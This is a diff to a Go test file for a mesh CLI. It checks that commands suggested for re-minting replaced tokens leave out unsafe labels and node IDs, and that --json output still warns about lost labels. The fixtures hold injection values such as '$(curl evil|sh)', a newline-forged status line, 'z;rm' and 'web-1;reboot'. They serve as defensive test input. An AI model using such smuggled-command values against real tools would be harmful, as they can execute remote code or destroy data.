@@ -2,11 +2,13 @@ package main
 
 import (
 	"bytes"
+	"net/netip"
 	"strings"
 	"testing"
 	"time"
 
 	"mesh/controlplane/api"
+	"mesh/tokenfmt"
 )
 
 // TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits: the command tellReplaced
@@ -19,7 +21,7 @@ func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
 	cio := &cliIO{stdout: &bytes.Buffer{}, stderr: &errb}
 	at := time.Date(2026, 12, 7, 10, 0, 0, 0, time.UTC)
 	tellReplaced(cio, []api.TokenView{{ID: "t1", Node: "web-1", CreatedAt: at,
-		Labels: map[string]string{"tier": "web", "x": "$(curl evil|sh)", "y": "a\nmeshctl: all fine", "z;rm": "v"}}}, nil)
+		Labels: map[string]string{"tier": "web", "x": "$(curl evil|sh)", "y": "a\nmeshctl: all fine", "z;rm": "v"}}}, nil, false)
 	out := errb.String()
 	if !strings.Contains(out, "meshctl token --node web-1 --replace --label tier=web\n") {
 		t.Errorf("the admitted label is not in the command:\n%s", out)
@@ -30,7 +32,7 @@ func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
 		}
 	}
 	errb.Reset()
-	tellReplaced(cio, []api.TokenView{{ID: "t2", Node: "web-1;reboot", CreatedAt: at, Labels: map[string]string{"tier": "web"}}}, nil)
+	tellReplaced(cio, []api.TokenView{{ID: "t2", Node: "web-1;reboot", CreatedAt: at, Labels: map[string]string{"tier": "web"}}}, nil, false)
 	if out := errb.String(); strings.Contains(out, "mint again") || strings.Count(out, "\n") != 1 {
 		t.Errorf("a node id that is none: a command suggested:\n%s", out)
 	}
@@ -82,5 +84,35 @@ func TestTheDryRunSaysAFileCannotReplaceADirectory(t *testing.T) {
 	}
 	if strings.Count(out, "! ") != 1 {
 		t.Errorf("another path is said to replace a directory:\n%s", out)
+	}
+}
+
+// TestAReplaceWithJSONStillWarnsOfLostLabels: `token --replace --json` said nothing
+// of the labels the cancelled token gave its node and the new one does not, where
+// the text output warns (a docs walkthrough): scripts, which --json is for, lost
+// them without a word. The warning goes to stderr either way, printed or written to
+// --out; the cancelled tokens are the object's "replaced" (no line of their own).
+func TestAReplaceWithJSONStillWarnsOfLostLabels(t *testing.T) {
+	tok := tokenfmt.Token{Mesh: "m", Node: "web-4", Role: tokenfmt.RoleWorker, Expiry: time.Now().Add(time.Hour),
+		Brokers: []netip.AddrPort{netip.MustParseAddrPort("127.0.0.1:7300")}}
+	replaced := []api.TokenView{{ID: "t1", Node: "web-4", CreatedAt: time.Now(), Labels: map[string]string{"tier": "db"}}}
+	for _, viaOut := range []bool{false, true} {
+		var out, errb bytes.Buffer
+		cio := &cliIO{stdout: &out, stderr: &errb}
+		var err error
+		if viaOut {
+			err = reportOut(cio, tok, nil, "w4.txt", true, replaced)
+		} else {
+			err = printToken(cio, tok, nil, true, replaced)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(errb.String(), "warning: the cancelled token gave web-4 labels this one does not: --label tier=db") {
+			t.Errorf("--out %v, --json: stderr %q, want the lost labels' warning", viaOut, errb.String())
+		}
+		if strings.Contains(errb.String(), "cancelled token t1") || !strings.Contains(out.String(), `"replaced"`) {
+			t.Errorf("--out %v, --json: stderr %q, stdout %q; want the cancelled token in the object only", viaOut, errb.String(), out.String())
+		}
 	}
 }
